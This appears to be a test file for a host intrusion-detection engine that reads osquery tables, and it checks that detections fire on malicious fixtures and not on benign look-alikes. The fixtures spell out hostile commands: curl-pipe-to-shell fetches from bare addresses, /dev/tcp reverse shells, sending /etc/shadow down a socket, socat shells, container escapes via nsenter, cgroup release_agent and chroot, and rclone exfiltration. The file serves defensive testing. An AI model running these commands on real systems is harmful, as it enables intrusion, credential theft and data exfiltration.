import { test } from "tap";
import { DETECTIONS } from "../../shared/engine/index.js";
import type { Detection, DetectionHit, HostData, QueryEntities, Row } from "../../shared/engine/index.js";
import { FIXTURES, type DetectionFixture } from "./detection-fixtures.js";
import { FIXTURES_A } from "./fixtures/new-a.js";
import { FIXTURES_B } from "./fixtures/new-b.js";
import { host, proc, readRepoFile, sock } from "./helpers.js";
import { basename } from "../../shared/engine/rows.js";

const ALL_FIXTURES: Record<string, DetectionFixture> = { ...FIXTURES, ...FIXTURES_A, ...FIXTURES_B };
const SCHEMA = JSON.parse(readRepoFile("reference/osquery-linux-schema.json")) as { tables: Record<string, { columns: string[] }> };

function entities(partial: Partial<QueryEntities> = {}): QueryEntities {
  return { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {}, ...partial };
}

/** The host with every row wrapped so that reading a column the detection did not declare throws. */
function guarded(d: Detection, h: HostData): HostData {
  const tables: Record<string, Row[]> = {};
  for (const [table, rows] of Object.entries(h.tables)) {
    const declared = new Set(d.reads[table] ?? []);
    tables[table] = rows.map(
      (row) =>
        new Proxy(row, {
          get(target, prop, receiver) {
            if (typeof prop === "string" && prop !== "toJSON" && !declared.has(prop)) throw new Error(`${d.id} read ${table}.${prop}, which it does not declare`);
            return Reflect.get(target, prop, receiver) as unknown;
          },
        }),
    );
  }
  return { ...h, tables };
}

const findings = (hits: DetectionHit[]): DetectionHit[] => hits.filter((h) => h.kept_by === undefined);

test("every registered detection has a positive and a benign fixture", async (t) => {
  for (const d of DETECTIONS) t.ok(ALL_FIXTURES[d.id], `fixture for ${d.id}`);
  const registered = new Set(DETECTIONS.map((d) => d.id as string));
  for (const id of Object.keys(FIXTURES)) t.ok(registered.has(id), `fixture ${id} names a registered detection`);
  // new-a / new-b may land before their detections are registered: listed, not failed.
  const pending = [...Object.keys(FIXTURES_A), ...Object.keys(FIXTURES_B)].filter((id) => !registered.has(id));
  if (pending.length > 0) t.comment(`fixtures waiting for their detection to be registered: ${pending.sort().join(", ")}`);
});

test("every detection reads real osquery tables and columns", async (t) => {
  for (const d of DETECTIONS) {
    for (const [table, columns] of Object.entries(d.reads)) {
      const spec = SCHEMA.tables[table];
      t.ok(spec, `${d.id}: ${table} is an osquery table`);
      const known = new Set((spec?.columns ?? []).map((c) => c.split(":")[0]));
      for (const column of columns) t.ok(known.has(column), `${d.id}: ${table}.${column} exists`);
    }
  }
});

for (const d of DETECTIONS) {
  test(`${d.id}: fires on the positive host, stays quiet on the look-alike`, async (t) => {
    const fixture = ALL_FIXTURES[d.id];
    if (!fixture) return t.fail(`no fixture for ${d.id}`);
    const ctx = { entities: entities(fixture.entities) };
    const hits = d.evaluate(guarded(d, fixture.positive), ctx);
    t.ok(findings(hits).length > 0, "positive fires");
    for (const hit of hits) {
      t.ok(hit.summary.length > 10, "has a summary");
      t.ok(hit.evidence.length > 0, "has evidence rows");
      for (const e of hit.evidence) t.ok(d.tables.includes(e.table), `evidence table ${e.table} is one the detection declares`);
    }
    const benign = d.evaluate(guarded(d, fixture.benign), ctx);
    t.same(findings(benign).map((h) => h.summary), [], "benign look-alike raises no finding");
    for (const hit of benign) t.ok(hit.evidence.length > 0 && hit.summary.length > 10, `note kept by ${hit.kept_by ?? "?"} has a summary and evidence`);
    const kept = new Set(benign.map((h) => h.kept_by));
    for (const id of fixture.kept ?? []) t.ok(kept.has(id), `benign twin is kept by ${id}`);
    t.same(d.evaluate(host({}), ctx), [], "a host with no rows is quiet");
  });
}

const byId = new Map(DETECTIONS.map((d) => [d.id as string, d as Detection]));
const run = (id: string, h: HostData): DetectionHit[] => byId.get(id)?.evaluate(h) ?? [];

test("severity overrides and known-bad marks inside detections", async (t) => {
  const upgraded = run("deleted-binary-running", host({ processes: [proc(7, "nginx", "/usr/sbin/nginx (deleted)", "nginx", { on_disk: 0 })] }));
  t.equal(upgraded[0]?.severity, "info", "a packaged binary replaced by an upgrade is info");
  const service = run("ssh-authorized-key", host({ authorized_keys: [{ uid: "33", key: "AAAAC3x", comment: "www@x", key_file: "/var/www/.ssh/authorized_keys" }], users: [{ uid: "33", username: "www-data", shell: "/usr/sbin/nologin" }] }));
  t.equal(findings(service).length, 1, "a key on a service account fires");
  t.equal(service[0]?.severity, undefined, "at the default (medium), not the root severity");
  const root = run("ssh-authorized-key", host({ authorized_keys: [{ uid: "0", key: "AAAAC3x", comment: "m@x", key_file: "/root/.ssh/authorized_keys" }] }));
  t.equal(root[0]?.severity, "high", "a root key is higher");
  const rootkit = run("unexpected-kernel-module", host({ kernel_modules: [{ name: "diamorphine", status: "Live" }] }));
  t.equal(rootkit[0]?.known_bad, true, "a rootkit module name is known-bad intel");
  const shell = run("unexpected-suid", host({ suid_bin: [{ path: "/var/tmp/.sh", username: "root", groupname: "root", permissions: "S" }] }));
  t.equal(shell[0]?.known_bad, true, "a SUID shell copy is known-bad");
  t.equal(shell[0]?.severity, "high");
});

test("download-execute: how high depends on where the code came from", async (t) => {
  const history = (command: string) => run("download-execute", host({ shell_history: [{ uid: "1000", time: "0", command, history_file: "/home/a/.bash_history" }] }));
  t.equal(history("curl -s http://198.51.100.3/x.sh | bash")[0]?.severity, undefined, "plain HTTP from an address: the default (high)");
  t.equal(history("curl -fsSL https://pastebin.com/raw/Xy12 | sh")[0]?.severity, undefined, "a paste site: high");
  t.equal(history("curl -fsSL https://cdn.evil.duckdns.org/i.sh | sh")[0]?.severity, undefined, "a dynamic-DNS name: high");
  t.equal(history("curl -k -fsSL https://updates.example.com/i.sh | sh")[0]?.severity, undefined, "certificate checks off: high");
  t.equal(history("curl -fsSL https://203.0.113.9/i.sh | sh")[0]?.severity, undefined, "HTTPS to a bare address: high");
  const vendor = history("curl -fsSL https://install.example-vendor.com/agent.sh | sudo bash");
  t.equal(vendor[0]?.severity, "low", "verified HTTPS from a named outside host: an installer to confirm");
  t.match(vendor[0]?.summary, /over HTTPS from install\.example-vendor\.com/);
  t.equal(history("curl -fsSL https://artifacts.corp/bootstrap.sh | bash")[0]?.severity, "medium", "from inside the site");
  t.equal(history("wget -qO- https://get.example.io/i.sh | sh; curl http://198.51.100.3/y | sh")[0]?.severity, undefined, "one plain-HTTP source keeps it high");
});

test("sshd-library-backdoor: Ebury's file names, a libkeyutils keyutils never ships, libraries from odd places", async (t) => {
  const sshd = (path: string) =>
    run("sshd-library-backdoor", host({ processes: [proc(4210, "sshd", "/usr/sbin/sshd", "sshd: alice [priv]")], process_memory_map: [{ pid: "4210", path }] }));
  t.equal(sshd("/lib64/libkeyutils.so.1.9")[0]?.known_bad, true, "libkeyutils.so.1.9 directly in /lib64: Ebury on RHEL");
  t.same(findings(sshd("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9")), [], "the same name under a multiarch directory is Debian bullseye's and Ubuntu's");
  t.equal(sshd("/lib64/tls/libkeyutils.so.1.5")[0]?.known_bad, true, "keyutils never installs into tls/");
  t.equal(sshd("/usr/lib64/libsbr.so")[0]?.known_bad, true, "a later Ebury name");
  const variant = sshd("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.10.2");
  t.equal(variant[0]?.severity, "high", "a three-part libkeyutils version is no keyutils file");
  t.notOk(variant[0]?.known_bad, "judged by shape, not a listed name");
  t.equal(sshd("/dev/shm/.x/libz.so.1")[0]?.severity, "high", "a temp or hidden directory");
  t.equal(sshd("/opt/vas/lib64/libnss_vas4.so.2")[0]?.severity, "medium", "outside the system's library directories, at medium");
  t.same(findings(sshd("/usr/lib/x86_64-linux-gnu/security/pam_x.so")), [], "PAM modules are pam-backdoor's");
});

test("suspicious-cron: a /dev/tcp port check is weak, a shell on /dev/tcp strong; a fetch-and-run weighed by its source", async (t) => {
  const cron = (command: string) => run("suspicious-cron", host({ crontab: [{ command, path: "/etc/cron.d/job" }] }));
  t.same(cron("nagios /bin/bash -c 'echo > /dev/tcp/10.40.2.15/5432' 2>/dev/null || /usr/local/bin/notify-down pg"), [], "a port check of a host inside the site is no signal");
  t.same(cron("nagios timeout 1 bash -c '</dev/tcp/pg-primary/5432'"), [], "nor of a service name");
  const probe = cron("root bash -c 'echo > /dev/tcp/203.0.113.7/443'");
  t.equal(probe.length, 1, "to an outside host it is reported");
  t.equal(probe[0]?.severity, undefined, "at the default (medium), not high");
  t.match(probe[0]?.summary, /outside host/);
  t.equal(cron("root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")[0]?.severity, "high", "a shell's output and input on the socket");
  t.equal(cron("root cat /etc/shadow > /dev/tcp/203.0.113.7/80")[0]?.severity, "high", "a file sent down the socket");
  t.equal(cron("root sh -i < /dev/tcp/203.0.113.7/9")[0]?.severity, "high", "a shell reading the socket");
  const vendor = cron("root /usr/bin/wget -q -O /tmp/update.sh https://updates.example-retail.com/kiosk/update.sh && /bin/sh /tmp/update.sh");
  t.equal(vendor[0]?.severity, "low", "fetched over HTTPS from a named host and run from /tmp: low");
  t.equal(cron("root /usr/bin/wget -q -O /tmp/u.sh http://198.51.100.4/u.sh && /bin/sh /tmp/u.sh")[0]?.severity, "high", "the same from a plain-HTTP address");
  t.equal(cron("root wget -q -O /tmp/.u https://updates.example-retail.com/u && sh /tmp/.u")[0]?.severity, "low", "hidden in /tmp is the same signal, weighed by its source");
  t.equal(cron("root curl -fsSL https://updates.example-retail.com/u | base64 -d | sh")[0]?.severity, "high", "a strong signal keeps it high");
  t.same(cron("root curl -sf -o /etc/openvpn/server/crl.pem.new https://pki.internal.example.net/crl/vpn.crl && mv /etc/openvpn/server/crl.pem.new /etc/openvpn/server/crl.pem"), [], "a fetch from the organisation's internal zone is no outside transfer");
  t.equal(cron("root curl -sf -o /tmp/x https://internal.example.net/x && sh /tmp/x")[0]?.severity, "low", "a registrable name that is only called internal is outside: its fetch-and-run low, not nothing");
});

test("ioc-match: bash's /dev/tcp named in a question is a technique, not an indicator", async (t) => {
  const h = host({ crontab: [{ command: "nagios bash -c 'echo > /dev/tcp/10.0.0.5/5432'", path: "/etc/cron.d/check" }] });
  const ioc = byId.get("ioc-match");
  t.same(findings(ioc?.evaluate(h, { entities: entities({ paths: ["/dev/tcp"] }) }) ?? []), []);
  t.equal(findings(ioc?.evaluate(h, { entities: entities({ paths: ["/dev/tcp/10.0.0.5/5432"] }) }) ?? []).length, 1, "a specific socket named still is");
});

test("staged-data-exfiltration: rclone to a remote counts with a dropper's signs, not as a backup job", async (t) => {
  const history = (...commands: string[]) => run("staged-data-exfiltration", host({ shell_history: commands.map((command) => ({ uid: "1000", time: "0", command, history_file: "/home/u/.bash_history" })) }));
  const dropped = history("tar czf /var/tmp/.cache/es-snap.tgz -C /var/tmp/.cache snap", "nohup /var/tmp/.cache/rclone copy /var/tmp/.cache/es-snap.tgz mega:bkp --config /var/tmp/.cache/r.conf -q &");
  t.equal(dropped.length, 1);
  t.equal(dropped[0]?.severity, "high");
  t.match(dropped[0]?.summary, /rclone itself run from \/var\/tmp\/\.cache\/rclone/);
  t.match(dropped[0]?.summary, /mega:bkp/);
  t.same(history("rclone sync /srv/backups b2:acme-backups --fast-list"), [], "a backup of a data directory to a bucket");
  t.same(history("rclone copy /tmp/report.csv gdrive:reports"), [], "a packaged rclone copying a plain temp file: no dropper's sign");
  const renamed = history("nohup ~/.local/bin/pg_walsync copy /tmp/dump.tar.gz mega:/dump --transfers 8 -q --auto-confirm &");
  t.match(renamed[0]?.summary, /rclone renamed pg_walsync/, "renamed, rclone is known by its own options");
  t.same(history("~/.local/bin/pg_walsync copy /tmp/dump.tar.gz mega:/dump"), [], "a copy command without rclone's options is not taken for rclone");
});

test("socat joining two sockets is a port forwarder: no reverse shell, no shell-like listener; socat running a shell is both", async (t) => {
  const forwarder = proc(1317, "socat", "/usr/bin/socat", "/usr/bin/socat TCP4-LISTEN:8443,fork,reuseaddr TCP4:10.70.0.15:443");
  const h = host({
    processes: [forwarder],
    process_open_sockets: [sock(1317, "10.70.0.15", 443)],
    listening_ports: [{ pid: "1317", port: "8443", protocol: "6", family: "2", address: "0.0.0.0" }],
  });
  t.same(findings(run("reverse-shell", h)), [], "a forwarder holds connections and runs nothing");
  t.notMatch(run("unexpected-listener", h)[0]?.summary ?? "", /shell or netcat-like/);
  const shell = proc(1318, "socat", "/usr/bin/socat", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr,setsid");
  t.equal(findings(run("reverse-shell", host({ processes: [shell], process_open_sockets: [sock(1318, "203.0.113.9", 4444)] }))).length, 1, "EXEC: runs a shell");
  const serial = proc(1320, "socat", "/usr/bin/socat", "socat TCP-LISTEN:4001,fork,reuseaddr FILE:/dev/ttyUSB0,b9600,raw,echo=0");
  t.notMatch(run("unexpected-listener", host({ processes: [serial], listening_ports: [{ pid: "1320", port: "4001", protocol: "6", family: "2", address: "0.0.0.0" }] }))[0]?.summary ?? "", /shell or netcat-like/, "a serial-to-TCP bridge");
  const stdio = proc(1319, "socat", "/usr/bin/socat", "socat - TCP:203.0.113.9:4444");
  t.equal(findings(run("reverse-shell", host({ processes: [stdio], process_open_sockets: [sock(1319, "203.0.113.9", 4444)] }))).length, 1, "its stdio on a socket is still a netcat");
});

test("lateral-admin-connection: a key kept in a temp or hidden place, from any host; AWX and Rundeck fan-out are automation", async (t) => {
  const ssh = (cmdline: string, role = "bastion") =>
    run("lateral-admin-connection", host({ processes: [proc(1558, "ssh", "/usr/bin/ssh", cmdline, { uid: "1001" })], process_open_sockets: [sock(1558, "10.20.4.57", 22)] }, { role }));
  const stolen = ssh("ssh -i /dev/shm/.k -o StrictHostKeyChecking=no -o BatchMode=yes svc-deploy@10.20.4.57 hostname; id");
  t.equal(findings(stolen).length, 1, "found on a bastion, whose ordinary SSH sessions are its job");
  t.match(stolen[0]?.summary, /with the key \/dev\/shm\/\.k, kept in a temp location/);
  t.match(stolen[0]?.summary, /10\.20\.4\.57/);
  t.same(findings(ssh("ssh -i /home/ops/.ssh/id_ed25519 ops@10.20.4.57 uptime")), [], "a bastion's own key: its job");
  t.same(findings(ssh('ssh -C -o ControlMaster=auto -o ControlPersist=60s -o User="ansible" -o IdentityFile="/runner/artifacts/4821/ssh_key_data" -o ControlPath="/runner/cp/102e7c9bfa" 10.20.1.11 /bin/sh -c true', "app")), [], "AWX's execution environment");
  t.same(findings(ssh("ssh -i /var/lib/rundeck/.ssh/id_rsa -o BatchMode=yes rundeck@10.21.4.12 sudo systemctl restart tomcat", "app")), [], "Rundeck's node executor");
  t.equal(findings(ssh("ssh ops@10.20.4.57", "app")).length, 1, "an app host's plain SSH session stays a (low) finding");
});

test("hosts-redirection: the site's own names pinned to private addresses are split-horizon entries, public names are not", async (t) => {
  const hosts = (address: string, hostnames: string) => run("hosts-redirection", host({ etc_hosts: [{ address, hostnames }] }, {}, "agent-1", "ci-r-01.prod.example.net"));
  t.same(findings(hosts("10.40.1.5", "gitlab.internal.example.net")), [], "an internal zone's name");
  t.same(findings(hosts("10.40.1.6", "registry.example.net")), [], "a name in the host's own domain, on a private address");
  t.equal(findings(hosts("203.0.113.5", "registry.example.net")).length, 1, "the same name sent to a public address");
  t.equal(findings(hosts("10.40.1.7", "github.com"))[0]?.severity, "high", "a code-hosting name sent anywhere");
});

test("privileged-container: a shell in pid 1's namespaces by nsenter from inside a container, on any runtime; kured is not", async (t) => {
  const ROOT = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/47f692f1/rootfs";
  const nsenter = (cmdline: string, root = ROOT) => findings(run("privileged-container", host({ processes: [proc(1919, "nsenter", "/usr/bin/nsenter", cmdline, { root })] })));
  const escape = nsenter("nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/bash");
  t.equal(escape.length, 1, "no docker_containers rows needed (a containerd node)");
  t.match(escape[0]?.summary, /from inside a container/);
  t.equal(nsenter("nsenter -t 1 -m -u -i -n -p").length, 1, "no program: nsenter runs the default shell");
  t.equal(nsenter("nsenter --target=1 --mount sh").length, 1);
  t.same(nsenter("/usr/bin/nsenter -m/proc/1/ns/mnt -- /bin/systemctl reboot"), [], "kured runs one program in the host's mount namespace");
  t.same(nsenter("nsenter -t 4242 -n ip addr"), [], "another process's namespaces, a program");
  t.notMatch(nsenter("nsenter -t 1 -a bash", "/")[0]?.summary ?? "none", /inside a container/, "on the host itself, said without the container");
  const releaseAgent = findings(run("privileged-container", host({ processes: [proc(52010, "sh", "/bin/sh", "/bin/sh -c mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release; echo /cmd > /tmp/cgrp/release_agent", { root: ROOT })] })));
  t.match(releaseAgent[0]?.summary, /cgroup release_agent/, "cgroup v1's escape");
  t.same(findings(run("privileged-container", host({ processes: [proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")] }))), [], "nothing else");
});

test("privileged-container: a shell chrooted into the host's root mounted in a pod, with no docker_containers rows", async (t) => {
  const KUBEPODS = "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1b2c.slice/cri-containerd-9f3e.scope";
  const chroot = (cmdline: string, cgroup = KUBEPODS, root = "/") =>
    findings(run("privileged-container", host({ processes: [{ ...proc(31337, "chroot", "/usr/sbin/chroot", cmdline, { root }), cgroup_path: cgroup }] })));
  t.equal(chroot("chroot /host bash")[0]?.severity, "high", "Bad Pods' hostPath escape");
  t.match(chroot("chroot /host")[0]?.summary, /chrooted into the host's root/, "no program: the default shell");
  t.equal(chroot("/usr/sbin/chroot /hostfs /bin/sh").length, 1);
  t.same(chroot("chroot /host bash", "/system.slice/ssh.service"), [], "on the host itself, chroot /host is someone's own tree");
  t.same(chroot("chroot /build/rootfs-arm64 /bin/sh -c make"), [], "a build's own tree");
  t.same(chroot("chroot /host /usr/bin/systemctl restart kubelet"), [], "one program, not a shell");
  t.equal(chroot("chroot --userspec 0:0 /host /bin/bash").length, 1, "an option with its value as the next word");
  t.same(chroot(`chroot ${"--a ".repeat(20_000)}x`), [], "thousands of options: words, not a backtracking expression");
});

test("ld-so-preload: a vendor's documented preload explains the file however few processes map it", async (t) => {
  const lib = "/opt/datadog-packages/datadog-apm-inject/stable/inject/launcher.preload.so";
  const h = (path: string) =>
    host({
      file: [{ path: "/etc/ld.so.preload", size: String(path.length + 1), uid: "0", mode: "0644", mtime: "1746264600" }],
      processes: [proc(1229, "nginx", "/usr/sbin/nginx", "nginx: master"), proc(1368, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master"), proc(1400, "cron", "/usr/sbin/cron", "cron -f"), proc(1401, "sshd", "/usr/sbin/sshd", "sshd"), proc(1402, "rsyslogd", "/usr/sbin/rsyslogd", "rsyslogd")],
      process_memory_map: [{ pid: "1229", path }, { pid: "1368", path }],
    });
  const datadog = run("ld-so-preload", h(lib));
  t.same(findings(datadog), [], "Datadog's single-step instrumentation, mapped into the two sampled services");
  t.equal(datadog[0]?.kept_by, "preload-libraries:datadog-apm-inject");
  t.equal(findings(run("ld-so-preload", h("/usr/lib/x86_64-linux-gnu/libx.so"))).length, 1, "an unknown library listed there stays a finding");
});

test("new-interactive-account: a service account whose every key is a restricted forced command needs its shell", async (t) => {
  const borg = { uid: "990", username: "borg", shell: "/bin/sh", directory: "/srv/borg" };
  const key = (options: string) => ({ uid: "990", key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBorgClientKey0000000000000000000000000001", options, comment: "web-01" });
  const served = run("new-interactive-account", host({ users: [borg], authorized_keys: [key('command="borg serve --restrict-to-path /srv/borg/web-01 --append-only",restrict')] }));
  t.same(findings(served), [], "borg serve behind restrict");
  t.match(served[0]?.kept_by, /restricted-forced-command/);
  t.equal(findings(run("new-interactive-account", host({ users: [borg], authorized_keys: [key('command="borg serve",restrict'), key("")] }))).length, 1, "one unrestricted key: the shell is usable");
  t.equal(findings(run("new-interactive-account", host({ users: [borg] }))).length, 1, "no keys: nothing needs the shell");
});

test("ioc-match: a relative path named in a question is the end of a path, or a word of a command", async (t) => {
  const ioc = byId.get("ioc-match");
  const ents = entities({ files: ["node_modules/nx/telemetry.js"] });
  const onDisk = host({ file: [{ path: "/home/kenji/app/node_modules/nx/telemetry.js" }] });
  t.equal(findings(ioc?.evaluate(onDisk, { entities: ents }) ?? []).length, 1, "a file whose path ends with it");
  const ran = host({ processes: [proc(4100, "node", "/usr/bin/node", "node node_modules/nx/telemetry.js --upload")] });
  t.equal(findings(ioc?.evaluate(ran, { entities: ents }) ?? []).length, 1, "a command line naming it");
  const other = host({ file: [{ path: "/home/kenji/app/node_modules/other/telemetry.js" }], processes: [proc(4101, "node", "/usr/bin/node", "node telemetry.js")] });
  t.same(findings(ioc?.evaluate(other, { entities: ents }) ?? []), [], "the same file name under another directory is not it");
});

test("suspicious-cron: a data file refreshed over HTTPS with nothing running it is an observation", async (t) => {
  const cron = (command: string) => run("suspicious-cron", host({ crontab: [{ command, path: "/etc/cron.d/x" }] }))[0]?.severity;
  t.equal(cron("root curl -sS -o /etc/bind/db.root https://www.internic.net/domain/named.root && /usr/sbin/rndc reload"), "info", "root hints");
  t.equal(cron("root wget -qO /etc/nginx/conf.d/drop.list https://www.spamhaus.org/drop/drop.txt && nginx -s reload"), "info", "a blocklist (wget's -qO)");
  t.equal(cron("root curl -s https://example.org/list.txt > /etc/nginx/blocklist.conf"), "info", "a redirection into the file");
  t.equal(cron("root curl -fsSL -o /usr/local/bin/tool https://get.example.io/tool"), "low", "a program's directory: still low");
  t.equal(cron("root curl -s -o /opt/x/update.sh https://get.example.io/u.sh && sh /opt/x/update.sh"), "low", "run after the fetch");
  t.equal(cron("root curl -s -o /opt/x/data https://get.example.io/d && chmod +x /opt/x/data"), "low", "made runnable");
  t.equal(cron("root curl -d @/etc/passwd -o /var/log/x https://example.org/u"), "low", "an upload is no refresh");
  t.equal(cron('wget -q -O - "https://www.veloshop.com/wp-cron.php?doing_wp_cron" >/dev/null 2>&1'), "info", "WordPress's cron request, its output thrown away");
  t.equal(cron("curl -s https://hooks.example.com/nightly"), "info", "curl to standard output, nothing downstream");
  t.equal(cron("wget -q -O - https://x.example.com/a | python3"), "high", "piped into an interpreter");
  t.equal(cron("curl -s http://45.61.136.10/ping >/dev/null"), undefined, "a request to a bare address over HTTP stays a finding (a beacon)");
  t.equal(cron("root curl -s -o /etc/x.txt http://203.0.113.7/x.txt"), undefined, "plain HTTP from an address keeps the detection's own severity (medium)");
});

test("new-interactive-account: a configuration-management deploy account is kept; a shell on a system account is fleet configuration when most hosts share it", async (t) => {
  const ansible = (comment: string) =>
    run("new-interactive-account", host({ users: [{ uid: "990", username: "ansible", shell: "/bin/bash", directory: "/var/lib/ansible" }], authorized_keys: [{ uid: "990", key: "AAAAC3NzaC1lZDI1NTE5AAAAIK9", options: "", comment }] }));
  t.equal(ansible("ansible@mgmt01.corp")[0]?.kept_by, "automation:config-management-key", "every key an Ansible key");
  const other = ansible("mallory@laptop")[0];
  t.equal(other?.kept_by, undefined, "a key of anyone else: still a finding");
  t.equal(other?.fleet_key, "ansible\n/bin/bash", "compared across the fleet by name and shell");
  const tmpHome = run("new-interactive-account", host({ users: [{ uid: "991", username: "svc", shell: "/bin/bash", directory: "/tmp/.s" }] }))[0];
  t.equal(tmpHome?.fleet_key, undefined, "a temp or hidden home is never fleet configuration");
});

test("unexpected-kernel-module: another distribution's build of an in-tree driver is kept; an unknown name is not", async (t) => {
  const kmod = (name: string) => run("unexpected-kernel-module", host({ kernel_modules: [{ name, status: "Live", used_by: "-" }] })).filter((h) => h.entity === `kmod:${name}`)[0];
  t.equal(kmod("pata_acpi")?.kept_by, "kmod:mainline-in-tree", "Ubuntu's pata_acpi (Debian does not build it)");
  t.equal(kmod("simpledrm")?.kept_by, "kmod:mainline-in-tree", "Alpine's simpledrm");
  t.equal(kmod("kvm_audit")?.kept_by, undefined, "a name no kernel source has");
  t.equal(kmod("diamorphine")?.known_bad, true, "a rootkit's name is judged first");
});

test("public-interactive-login: a host serving logins from the internet by its own records; root stays a finding", async (t) => {
  const login = (username: string, ip: string) => ({ username, host: ip, type: "7", type_name: "user-process" });
  const people = ["ana", "bo", "chen", "dev", "eli"].map((u, i) => login(u, `81.2.69.${10 + i}`));
  const many = run("public-interactive-login", host({ last: [...people, login("root", "45.61.136.10")] }));
  t.equal(many.filter((h) => h.kept_by === "logins:public-service").length, 5, "five people from five public addresses: a login service");
  t.equal(many.find((h) => h.entity === "ip:45.61.136.10")?.severity, "high", "root from the internet is still high");
  const few = run("public-interactive-login", host({ last: people.slice(0, 4) }));
  t.equal(findings(few).length, 4, "four people: still findings");
  t.equal(findings(run("public-interactive-login", host({ last: people.slice(0, 2) }, { role: "hpc-login" }))).length, 0, "a login node by its role tag");
});

test("ssh-authorized-key: a user's own key appended by hand, cPanel's jailed shell, a service key taken only from inside the site", async (t) => {
  const user = (uid: string, username: string, shell: string, directory: string) => ({ uid, username, shell, directory });
  const key = (uid: string, comment: string, file: string, options = "") => ({ uid, key: `AAAAC3NzaC1lZDI1NTE5AAAAI${comment.length}x${uid}`, options, comment, key_file: file });
  const hpc = (command: string) =>
    run("ssh-authorized-key", host({ users: [user("23590", "ybenali", "/bin/bash", "/home/ybenali")], authorized_keys: [key("23590", "ybenali@lab-ws14", "/home/ybenali/.ssh/authorized_keys")], shell_history: [{ uid: "23590", command, history_file: "/home/ybenali/.bash_history" }] }));
  t.same(findings(hpc("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys")), [], "the user's own key, from their own .ssh");
  t.equal(findings(hpc("cat /tmp/k.pub >> ~/.ssh/authorized_keys")).length, 1, "a key from /tmp is still appended by hand");
  t.equal(findings(hpc("echo ssh-ed25519 AAAAC3x evil >> ~/.ssh/authorized_keys")).length, 1, "a key typed in is still appended by hand");
  const cpanel = run("ssh-authorized-key", host({ users: [user("1004", "oakridgehoa", "/usr/local/cpanel/bin/jailshell", "/home/oakridgehoa")], authorized_keys: [key("1004", "oakridgehoa@cpanel-generated", "/home/oakridgehoa/.ssh/authorized_keys")] }));
  t.same(findings(cpanel), [], "a jailed shell is a person's shell: their keys are theirs");
  const barman = (options: string) => run("ssh-authorized-key", host({ users: [user("111", "barman", "/bin/bash", "/var/lib/barman")], authorized_keys: [key("111", "postgres@db01", "/var/lib/barman/.ssh/authorized_keys", options)] }))[0]?.severity;
  t.equal(barman('from="10.20.1.41"'), "info", "only from an inside address");
  t.equal(barman('from="10.20.1.*,db01.corp.internal"'), "info", "a private wildcard and an internal name");
  t.equal(barman('from="10.20.1.41,203.0.113.9"'), undefined, "one outside address: the detection's own severity");
  t.equal(barman('from="!10.0.0.1,*"'), undefined, "a negation and a wildcard for everyone");
  t.equal(barman(""), undefined, "no from=");
});

test("baselines from the blind corpora: a virtualenv's unit, a monitoring agent's library in sshd, packaged SUID helpers", async (t) => {
  const unit = "/etc/systemd/system/shop.service";
  const exec = (program: string) =>
    findings(run("suspicious-systemd-unit", host({ systemd_units: [{ id: "shop.service", fragment_path: unit }], augeas: [{ node: `/files${unit}/Service/ExecStart/command`, value: program, label: "command", path: unit }] })));
  t.same(exec("/srv/app/.venv/bin/gunicorn"), [], "a virtualenv (.venv) is where an app's unit runs");
  t.equal(exec("/srv/app/.cache2/bin/agent").length, 1, "another hidden directory is still one");
  t.equal(exec("/home/runner/.local/share/dbus-1/dbus-session-helper").length, 1, "XDG's data directory holds no programs");
  t.same(exec("/home/ana/.local/bin/syncthing"), [], "~/.local/bin is where user installs go");
  const sshd = (lib: string) => findings(run("sshd-library-backdoor", host({ processes: [proc(743, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")], process_memory_map: [{ pid: "743", path: lib }] })));
  t.same(sshd("/opt/dynatrace/oneagent/agent/lib64/liboneagentproc.so"), [], "Dynatrace OneAgent's documented injection");
  t.equal(sshd("/opt/evil/lib64/liboneagentproc.so").length, 1, "its name elsewhere is not");
  const suid = (path: string, groupname: string) => findings(run("unexpected-suid", host({ suid_bin: [{ path, username: "root", groupname, permissions: "S" }] })));
  t.same(suid("/usr/sbin/suexec", "apache"), [], "Apache's suexec");
  t.same(suid("/usr/sbin/exim", "root"), [], "Exim");
  t.same(suid("/usr/bin/locate", "slocate"), [], "RHEL 8's mlocate");
});

test("recall from the blind corpora: XorDDoS's disguises, a renamed chisel, a dump posted to a bare address", async (t) => {
  const masq = (path: string, cmdline: string) => findings(run("process-masquerading", host({ processes: [proc(392, basename(path), path, cmdline)] })));
  t.equal(masq("/usr/bin/kvtkzorhbv", "ifconfig eth0").length, 1, "a utility's command line on a random binary");
  t.equal(masq("/lib/libudev.so.6", "who")[0]?.severity, "high", "a library file run as a program");
  t.same(masq("/usr/bin/w.procps", "w"), [], "Debian's alternatives: w is w.procps");
  t.same(masq("/bin/busybox", "ps"), [], "BusyBox applets");
  t.equal(masq("/usr/bin/perl", "/usr/sbin/httpd").length, 1, "a Perl process titled as Apache (Shellbot)");
  t.same(masq("/usr/bin/perl", "/usr/sbin/spamd -d --pidfile=/run/spamd.pid"), [], "a Perl daemon titled as its own script");
  t.same(masq("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/supervisord"), [], "an interpreter titled as itself");
  t.same(masq("/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/ls"), [], "the dynamic loader may be run");
  const tool = (cmdline: string) => findings(run("offensive-tool-present", host({ processes: [proc(463, "fontd", "/var/tmp/.font-unix/fontd", cmdline)] })));
  t.equal(tool("/var/tmp/.font-unix/fontd client --keepalive 25s https://146.190.52.17:443 R:0.0.0.0:1080:socks").length, 1, "chisel's client by its reverse SOCKS remote");
  t.same(tool("/var/tmp/.font-unix/fontd --config /etc/fontd.conf"), [], "the same file with other arguments says nothing");
